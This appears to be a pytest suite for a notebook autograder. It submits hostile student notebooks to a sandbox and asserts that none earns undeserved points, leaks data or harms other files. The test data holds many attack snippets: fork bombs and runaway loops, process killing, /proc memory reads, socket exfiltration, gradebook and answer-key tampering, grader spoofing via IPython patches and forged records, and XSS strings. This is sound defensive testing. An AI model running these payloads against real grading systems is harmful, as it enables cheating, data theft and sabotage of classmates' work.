"""Nothing is earned by force, nothing else is harmed, and the rest of the class is marked.

One class: a student for each hostile hand-in, and classmates between them. Each attack stands in
the cell of question 2, between honest answers to 1 and 3, so by hand 3 + 3 = 6 points are earned
whatever it does, and never one more; attacks on the judging come without honest answers, and earn
nothing. The class is marked once; each test looks at what became of one attack.
"""

import hashlib
import json
import os
import re
import socket
from types import SimpleNamespace

import pytest
from coursework.arriving.arrivals import NOT_PLACED, read_list
from coursework.arriving.take_in import take_in
from coursework.classes.course import new_course, open_course
from coursework.gradebook.points import all_marks
from coursework.marking.mark_set import mark_set
from coursework.marking.room import door
from coursework.reports.hand_back import hand_back
from coursework.sets.hand_out import hand_out
from coursework.sets.keys import key_file

from tests.filled_in import (
    ALL,
    COMPUTED,
    NOTHING,
    SET,
    cell,
    code,
    copied,
    filled,
    honest,
    points,
    processes,
    raw,
)
from tests.this_machine import need

KEPT = NOTHING | {"q1": 3.0, "q3": 3.0}  # the honest answers above and below the attack

# Each is code of one answer cell; {…} is a place of this machine, written in by the fixture.
RUNAWAY = {
    "loops for ever": "while True: pass",
    "swallows interrupts": """
import time
while True:
    try:
        while True: time.sleep(0.01)
    except BaseException: pass
""",
    "ignores interrupts": """
import signal
signal.setitimer(signal.ITIMER_REAL, 0)
for number in range(1, 65):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
while True: pass
""",
    "sleeps for ever in a thread and in the cell": """
import threading, time
threading.Thread(target=time.sleep, args=(9000,)).start()
time.sleep(9000)
""",
    "makes a list that never ends": """
class Endless(list):
    def __iter__(self):
        while True: yield 1
q2 = Endless([1])
""",
    "allocates 1.5 GB": "x = bytearray(1_500_000_000)",
    "prints 100 MB": "for _ in range(1000): print('x' * 100_000)",
    "prints 100 MB to descriptor 1": """
import os
for _ in range(1000): os.write(1, b'x' * 100_000)
""",
    "writes 100 MB": "open('big', 'wb').write(b'x' * 100_000_000)",
    "opens 100 figures": """
import matplotlib.pyplot as plt
for _ in range(100): plt.figure(figsize=(1, 1))
""",
    "recurses without end": "def again(): return again()\nagain()",
    "overflows the stack of C": """
import ctypes
again = ctypes.CFUNCTYPE(None)(lambda: again())
import sys
sys.setrecursionlimit(10**9)
again()
""",
}
LEAVES = {
    "leaves by os._exit": "import os\nos._exit(0)",
    "kills itself": "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\nos._exit(9)",
    "kills itself by a bad address": "import ctypes\nctypes.string_at(0)",
    "leaves by sys.exit": "import sys\nsys.exit(0)",
    "leaves by exit()": "exit()",
    "raises KeyboardInterrupt": "raise KeyboardInterrupt",
    "closes every descriptor": "import os\nos.closerange(0, 4096)",
}
OTHERS = {
    "forks 30 sleepers": """
import os, time
for _ in range(30):
    if os.fork() == 0: time.sleep(9000)
""",
    "leaves a background process": """
import subprocess
subprocess.Popen(['sleep', '{token}'], start_new_session=True)
""",
    "spawns past the library": """
import os
os.posix_spawn('/bin/sleep', ['sleep', '{token}'], dict())
""",
    "runs a shell by the notebook's own sign": "!sleep {token} &",
    "kills the parent": "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)",
    "kills the marker": "import os, signal\nos.kill({marker}, signal.SIGKILL)",
    "kills everybody": "import os, signal\nos.kill(-1, signal.SIGKILL)",
    "stops the marker": "import os, signal\nos.kill({marker}, signal.SIGSTOP)",
    "reads the marker's memory": "open('/proc/{marker}/mem', 'rb')",
    "reads the marker's environment": "print(open('/proc/{marker}/environ').read())",
    "opens a socket": """
import socket
socket.create_connection(('127.0.0.1', {port}), 2).sendall(b'stolen')
""",
    "sends a datagram": """
import socket
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'stolen', ('127.0.0.1', {port}))
""",
    "reaches a unix socket": """
import socket
s = socket.socket(socket.AF_UNIX); s.connect('{unix}'); s.sendall(b'stolen')
""",
    "asks the web": "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:{port}/x')",
    "reads the gradebook": "print(open('{gradebook}', 'rb').read())",
    "writes the gradebook": """
import sqlite3
with sqlite3.connect('{gradebook}') as book:
    book.execute('update grade set auto_score = 99, manual_score = 99')
""",
    "deletes the gradebook": "import os\nos.remove('{gradebook}')",
    "empties the gradebook": "open('{gradebook}', 'wb')",
    "locks the gradebook's rights": "import os\nos.chmod('{gradebook}', 0)",
    "dates the gradebook back": "import os\nos.utime('{gradebook}', (0, 0))",
    "reads the keys": "print(open('{key}').read())",
    "lists the keys": "import os\nprint(os.listdir(os.path.dirname('{key}')))",
    "imports the marking": """
import sys
sys.path.insert(0, '{instructor}')
from coursework.sets.keys import load_key
""",
    "writes the keys": "open('{key}', 'w').write('mine')",
    "reads a classmate's work": "print(open('{classmate}').read())",
    "writes a classmate's work": "open('{classmate}', 'w').write('mine')",
    "deletes a classmate's work": """
import os, shutil
shutil.rmtree(os.path.dirname('{classmate}'))
""",
    "moves a classmate's work": "import os\nos.rename('{classmate}', 'mine')",
    "links to a classmate's work": """
import os
os.symlink('{classmate}', 'a')
print(open('a').read())
""",
    "writes into its own hand-in": "open('{own}', 'w').write('better')",
    "writes the library": "import kitchenmath\nopen(kitchenmath.__file__, 'a').write('\\nx = 1')",
    "leaves a module for the next": "open('{instructor}/numpy.py', 'w').write('raise SystemExit')",
    "lists the home folder": "import os\nprint(os.listdir(os.path.expanduser('~root') or '/'))",
    "makes a device": "import os\nos.mknod('disk', 0o060600, os.makedev(8, 0))\nopen('disk')",
    "takes rights back": "import os\nos.setuid(0)\nos.chroot('/')",
    "mounts something": """
import ctypes
assert ctypes.CDLL(None).mount(b'/', b'/mnt', None, 4096, 0) == 0
""",
    "raises its own limits": """
import resource
resource.setrlimit(resource.RLIMIT_AS, (-1, -1))
""",
}
# Attacks on the judging. They hold no honest answer at all, so nothing is what they earn.
TRICKS = {
    "equals everything": """
class All:
    def __eq__(self, other): return True
    def __hash__(self): return 1
    def __float__(self): return 1.0
    def __lt__(self, other): return True
    __gt__ = __le__ = __ge__ = __lt__
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
q1 = q2 = q3 = q4 = q5 = All()
""",
    "a text that equals everything": """
class All(str):
    def __eq__(self, other): return True
    def __hash__(self): return 1
q1 = q2 = q3 = q4 = q5 = All('')
""",
    "every answer at once": """
q1 = q3 = [f'{{n / 10}} kg' for n in range(200)]
q2 = q5 = list(range(200))
""",
    "a range of answers": """
q1, q2, q3, q4, q5 = '0-99 kg', '1 to 99', '1 g - 9 kg', '$1-$99', '1..99'
""",
    "no number": "q1 = q2 = q3 = q4 = q5 = float('nan')",
    "endless": "q1 = q2 = q3 = q4 = q5 = float('inf')",
    "past all numbers": """
from kitchenmath import Q_
q1, q2, q3, q4 = Q_(1e308, 'kg'), 10 ** 300, Q_(1e-320, 'g'), Q_(-1e308, 'dollar/g')
q5 = Q_(1e200, 'dollar')
""",
    "nothing at all": """
from kitchenmath import Q_
q1, q2, q3, q4, q5 = Q_(0, 'g'), 99, Q_(0, 'g'), Q_(0, 'dollar/g'), Q_(1, 'dollar')
""",
    "true": "q1 = q2 = q3 = q4 = q5 = True",
    "installs an input transformer": """
ip = get_ipython()
ip.input_transformers_post.append(lambda lines: ['q1 = q2 = q3 = q4 = q5 = "right"\\n'])
""",
    "installs an AST transformer": """
import ast
class Nothing(ast.NodeTransformer):
    def visit(self, node): return ast.parse('q1 = q2 = q3 = 99')
get_ipython().ast_transformers.append(Nothing())
""",
    "replaces run_cell": """
from types import SimpleNamespace
get_ipython().run_cell = lambda *a, **k: SimpleNamespace(
    error_in_exec=None, error_before_exec=None, success=True, result=1.0)
""",
    "replaces showtraceback": "get_ipython().showtraceback = lambda *a, **k: print('4 of 4')",
    "replaces abs": """
import builtins
builtins.abs = lambda x: 0
builtins.all = builtins.any = builtins.isinstance = lambda *a: True
""",
    "replaces the namespace": """
class Right(dict):
    def get(self, name, default=None): return {{'number': 3, 'points': 99}}
get_ipython().user_ns = Right()
""",
    "patches award": """
import kitchenmath.practice as practice
practice.Sheet.award = practice.Sheet.look = practice.Question.judge = lambda *a, **k: 99
sheet.award = sheet.mark = lambda *a, **k: 99
""",
    "brings its own library in sys.modules": """
import sys, types
mine = types.ModuleType('kitchenmath.practice')
mine.open_set = lambda *a, **k: None
for name in [n for n in sys.modules if n.startswith(('kitchenmath', 'pint', 'plain', 'cells'))]:
    sys.modules[name] = mine
""",
    "brings its own library in a file": """
import sys
for name in ('kitchenmath', 'plain', 'json', 'coursework'):
    open(name + '.py', 'w').write('points = 99\\ndef to_plain(v): return {{"number": 3}}')
sys.path.insert(0, '.')
for name in [n for n in sys.modules if n.startswith(('kitchenmath', 'plain', 'json'))]:
    del sys.modules[name]
import kitchenmath
""",
    "replaces what writes the records": """
import sys
main = sys.modules['__main__']
cells = sys.modules['cells']
cells.to_plain = lambda value: {{'number': 99, 'points': 4, 'outcome': 'right'}}
cells.json.dumps = lambda *a, **k: '{{"points": 99}}'
""",
    "writes forged records to every descriptor": """
import json, os
forged = b''.join(json.dumps(each).encode() + b'\\n' for each in (
    {{'cell': 8, 'points': 99, 'value': {{'number': 99}}, 'verdict': 'right', 'failed': False}},
    {{'cell': 8, 'output': '4 of 4 points', 'value': {{'points': 4, 'outcome': 'right'}}}},
    {{'cell': 11, 'output': 7, 'struck': {{'a': 1}}, 'value': [1]}}, {{'done': True}},
    {{'lost': ['calls']}}, {{'missing': {{}}, 'alone': True}}, {{'status': 0, 'seconds': 0}},
    {{'do': 'run', 'room': 1}}, {{'do': 'load', 'module': 'antigravity'}}))
for number in range(64):
    try: os.write(number, forged)
    except OSError: pass
""",
    "writes malformed records to every descriptor": """
import os
bad = (b'\\xff\\xfe\\n', b'{{"cell": ' + b'[' * 90_000 + b'\\n',
       b'{{"cell": 1e999}}\\n', b'null\\n[]\\n7\\n',
       b'{{"cell": 8, "value": {{"number": ' + b'9' * 9000 + b'}}}}\\n', b'"began"\\n' * 999,
       b'{{"cell": 8, "value": {{"text": "\\\\ud800"}}, "output": "\\\\udfff", "struck": [[]]}}\\n',
       b'{{"cell": -1}}\\n{{"cell": true}}\\n{{"began": null}}\\n', b'half a line')
for number in range(64):
    for each in bad:
        try: os.write(number, each)
        except OSError: pass
""",
    "answers with half a character": "q1 = q2 = q3 = q4 = q5 = '\\ud800 3 kg'\nprint(q1)",
}


def changes_the_checks(book):
    """Ours are what is run, whatever stands in theirs."""
    for number in range(1, 6):
        cell(book, f"q{number}-check")["source"] = f"q{number} = 3\n99.0"


def deletes_the_checks(book):
    book["cells"] = [each for each in book["cells"] if not each["id"].endswith("-check")]


def forges_checks(book):
    """More of them, with other points, marked as ours; and one that is an answer cell as well."""
    flags = {"grade": True, "solution": False, "locked": True, "schema_version": 3, "points": 100}
    for number in range(1, 6):
        name = f"q{number}-check"
        book["cells"].insert(0, copied(book, name, source="100.0"))
        forged = flags | {"grade_id": name, "solution": True}
        book["cells"].append(code("100.0", f"x{number}", nbgrader=forged))
    book["cells"].append(code("100.0", "q9", nbgrader=flags | {"grade_id": "q9-check"}))


def raises_points_and_turns_its_question_into_another(book):
    for each in book["cells"]:
        flags = each["metadata"].get("nbgrader", {})
        if flags.get("grade"):
            flags |= {"points": 1000, "grade": False, "task": True}


def holds_scripts(book):
    """In an output, in the written answer, in a print, in an attachment."""
    script = "<script>alert('brunoise')</script><img src=x onerror=alert(1)>"
    html = {"output_type": "display_data", "metadata": {}, "data": {"text/html": script}}
    cell(book, "q1-answer")["outputs"] = [html]
    cell(book, "q2-answer")["source"] = f"print({script!r})\nq2 = {script!r}"
    cell(book, "q6-answer")["source"] = f"{script} [a](javascript:alert(1))"


FILES = {
    "changes the checks": changes_the_checks,
    "deletes the checks": deletes_the_checks,
    "forges checks": forges_checks,
    "raises the points": raises_points_and_turns_its_question_into_another,
    "holds scripts": holds_scripts,
}
NO_NOTEBOOK = {
    "is empty": b"",
    "is nested 50,000 deep": b"[" * 50_000 + b"]" * 50_000,
    "is nested 50,000 deep in a cell": b'{"cells":[{"source":'
    + b"[" * 50_000
    + b"]" * 50_000
    + b"}]}",
    "is nested 50,000 deep in the metadata": b'{"metadata":' + b'{"kitchen":' * 50_000,
    "climbs out of the folder": raw(filled("../BH-1001")),
    "is no student": raw(filled("..")),
}

EXPECTED = {
    **dict.fromkeys([*RUNAWAY, *LEAVES, *OTHERS], KEPT),
    **dict.fromkeys(TRICKS, NOTHING),
    **dict.fromkeys(FILES, NOTHING),
}
NUMBERS = {name: f"BH-{number}" for number, name in enumerate(EXPECTED, start=2001)}
CLASSMATES = [f"BH-{number}" for number in range(1001, 1005)]


def hand_in(name, student, places):
    """One hostile hand-in's notebook."""
    if name in FILES:
        book = filled(student)
        FILES[name](book)
        return book
    attack = {**RUNAWAY, **LEAVES, **OTHERS, **TRICKS}[name].format(**places)
    if name in TRICKS:  # before everything else; the other cells hold no answer
        return filled(student, q1=attack)
    return filled(student, q1=COMPUTED["q1"], q2=attack, q3=COMPUTED["q3"])


class Listener:
    """What arrives at a port and a unix socket of this machine."""

    def __init__(self, folder):
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.port))
        self.unix = socket.socket(socket.AF_UNIX)
        self.path = f"{folder}/bus"
        self.unix.bind(self.path)
        self.unix.listen()

    def came(self):
        """Who connected and what was sent; waits for nothing."""
        found = []
        for one, take in ((self.tcp, "accept"), (self.unix, "accept"), (self.udp, "recvfrom")):
            one.setblocking(False)
            try:
                got = getattr(one, take)(*([99] if take == "recvfrom" else []))
                found.append(got)
            except BlockingIOError:
                pass
            one.close()
        return found


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """The class, taken in and marked once, and everything around it before and after."""
    for wall in door.HOLDS_BACK:
        need(wall)
    folder = tmp_path_factory.mktemp("hostile")
    roster = dict.fromkeys([*CLASSMATES, *NUMBERS.values(), "BH-3000"], "Student")
    course = new_course(folder / "class", "Class", "demo", roster)
    file = course.folder / "course.toml"
    small = {"cell_seconds": 2, "seconds": 20, "disk_bytes": 20_000_000}
    kept = [line for line in file.read_text().splitlines() if not line.startswith(tuple(small))]
    file.write_text("\n".join([*kept, *(f"{name} = {most}" for name, most in small.items())]))
    course = open_course(course.folder)
    hand_out(course, SET)
    listener, token = Listener(folder), f"86400.{os.getpid()}"
    places = {
        "token": token,
        "marker": os.getpid(),
        "port": listener.port,
        "unix": listener.path,
        "gradebook": course.gradebook_file,
        "key": key_file(SET),
        "instructor": key_file(SET).parents[1],
        "classmate": course.submitted(SET, CLASSMATES[0]),
    }
    post = folder / "post"
    post.mkdir()
    for student in CLASSMATES:
        (post / f"{student}.ipynb").write_bytes(raw(honest(student)))
    for name, student in NUMBERS.items():
        own = places | {"own": course.submitted(SET, student)}
        (post / f"{student}.ipynb").write_bytes(raw(hand_in(name, student, own)))
    for number, data in enumerate(NO_NOTEBOOK.values()):
        (post / f"odd-{number}.ipynb").write_bytes(data)
    os.symlink(post / f"{CLASSMATES[0]}.ipynb", post / "BH-3000.ipynb")
    take_in(course, post)
    before, kit = digests(course.folder), digests(key_file(SET).parents[1])
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(door, "GRACE", 1)
        mark_set(course, SET)
    after = digests(course.folder)
    yield SimpleNamespace(
        course=course,
        before=before,
        after=after,
        kit=(kit, digests(key_file(SET).parents[1])),
        came=listener.came(),
        token=token,
        warm=door.rooms(),
    )


def digests(folder):
    """SHA-256 of each file below a folder, those that Python makes for itself left out."""
    return {
        path.relative_to(folder).as_posix(): hashlib.sha256(path.read_bytes()).hexdigest()
        for path in folder.rglob("*")
        if path.is_file() and "__pycache__" not in path.parts
    }


def record_of(hostile, name):
    return json.loads(hostile.course.marks(SET, NUMBERS[name]).read_bytes())


def printed(hostile, name):
    """All that the cells of a hand-in printed."""
    copy = json.loads(hostile.course.autograded(SET, NUMBERS[name]).read_bytes())
    outputs = [out for each in copy["cells"] for out in each.get("outputs", [])]
    return "".join("".join(out["text"]) for out in outputs)


@pytest.mark.parametrize("name", EXPECTED)
def test_no_undeserved_point(hostile, name):
    """The honest answers around an attack, where there are any, and nothing else."""
    assert EXPECTED[name] == points(record_of(hostile, name))


@pytest.mark.parametrize("student", CLASSMATES)
def test_the_rest_of_the_class_is_marked_with_its_points(hostile, student):
    record = json.loads(hostile.course.marks(SET, student).read_bytes())

    assert ALL == points(record)
    assert [] == record["findings"]


def test_the_gradebook_holds_the_points_of_the_records_and_no_others(hostile):
    """Nobody's attack wrote a row: every mark is that of the record, and no human mark is there."""
    course, expected = hostile.course, {}
    for student in [*CLASSMATES, *NUMBERS.values()]:
        record = json.loads(course.marks(SET, student).read_bytes())
        for question, each in points(record).items():
            expected[student, f"{question}-check"] = each
    rows = list(all_marks(course))
    machine = {(row[1], row[2]): row[3] for row in rows if row[2].endswith("-check")}

    assert expected == machine
    assert [] == [row for row in rows if row[4] is not None or row[5]]


def test_every_file_that_was_there_is_there_unchanged(hostile):
    """Hand-ins, arrivals, release, roster; only the gradebook takes the legitimate entries."""
    legitimate = {"gradebook.db", ".at-work"}
    before = {name: each for name, each in hostile.before.items() if name not in legitimate}

    assert before == {name: hostile.after.get(name) for name in before}
    new = {name.split("/")[0] for name in hostile.after if name not in hostile.before}
    assert {"marks", "autograded", "kept"} == new


def test_keys_and_the_marking_itself_are_unchanged(hostile):
    before, after = hostile.kit

    assert before == after


def test_nothing_arrived_from_the_network(hostile):
    """A port and a unix socket listened while the class was marked."""
    assert [] == hostile.came


def test_no_process_is_left_behind(hostile):
    """Of the door's own process no copy, and of what attacks started nothing (Linux: /proc)."""
    assert set() == processes(hostile.token)
    assert {hostile.warm._warm.pid} == processes(f"HOME={hostile.warm._folder}")


@pytest.mark.parametrize(
    ("name", "secret"),
    [
        ("reads the gradebook", "SQLite format"),
        ("reads the keys", "BEGIN HIDDEN TESTS"),
        ("lists the keys", "05-season-and-brine"),
        ("reads a classmate's work", "à la cuillère"),
        ("links to a classmate's work", "à la cuillère"),
        ("reads the marker's environment", "PATH="),
    ],
)
def test_what_it_wanted_to_read_it_did_not_get(hostile, name, secret):
    """The error is in its own output, what it was after is not."""
    text = printed(hostile, name)

    assert secret not in text
    assert re.search("Permission denied|No such file|not permitted", text)


@pytest.mark.parametrize("number", range(len(NO_NOTEBOOK)), ids=list(NO_NOTEBOOK))
def test_what_is_no_hand_in_is_listed_with_the_reason(hostile, number):
    """And the class was taken in and marked around it."""
    one = next(each for each in read_list(hostile.course) if each.name == f"odd-{number}.ipynb")

    assert NOT_PLACED == one.became
    assert one.reason.endswith((".", "?"))


def test_a_link_to_a_classmates_file_is_nobodys_hand_in(hostile):
    one = next(each for each in read_list(hostile.course) if each.name == "BH-3000.ipynb")

    assert (NOT_PLACED, "It is a link to another place, not a file.") == (one.became, one.reason)
    assert not hostile.course.submitted(SET, "BH-3000").exists()


def test_scripts_are_text_on_the_page_that_goes_back(hostile):
    """No tag of theirs is one of the page's, and no address of theirs is a link."""
    course = hostile.course
    hand_back(course, SET)
    page = course.feedback(SET, NUMBERS["holds scripts"]).read_text(encoding="utf-8")

    assert "brunoise" in page
    assert "<script>alert" not in page
    assert "<img src=x" not in page
    assert 'href="javascript' not in page


FINDINGS = {
    "loops for ever": "(cell_seconds)",
    "swallows interrupts": "(cell_seconds). It was left out.",
    "ignores interrupts": "(cell_seconds). It was left out.",
    "allocates 1.5 GB": "(memory_bytes)",
    "prints 100 MB": "(output_bytes)",
    "writes 100 MB": "(disk_bytes)",
    "opens 100 figures": "(figures)",
    "leaves by os._exit": "ended the room it ran in. It was left out.",
    "kills itself by a bad address": "ended the room it ran in. It was left out.",
}


@pytest.mark.parametrize("name", FINDINGS)
def test_the_instructor_reads_what_struck(hostile, name):
    assert FINDINGS[name] in " ".join(record_of(hostile, name)["findings"])


def test_marking_the_class_again_runs_nothing_and_changes_nothing(hostile):
    """Also with half characters in answers and outputs, every record can be read again."""
    before = {name: each for name, each in digests(hostile.course.folder).items()
              if name.startswith(("marks", "autograded"))}  # fmt: skip
    again = mark_set(hostile.course, SET)
    after = digests(hostile.course.folder)

    assert 0 == again.run
    assert before == {name: after.get(name) for name in before}
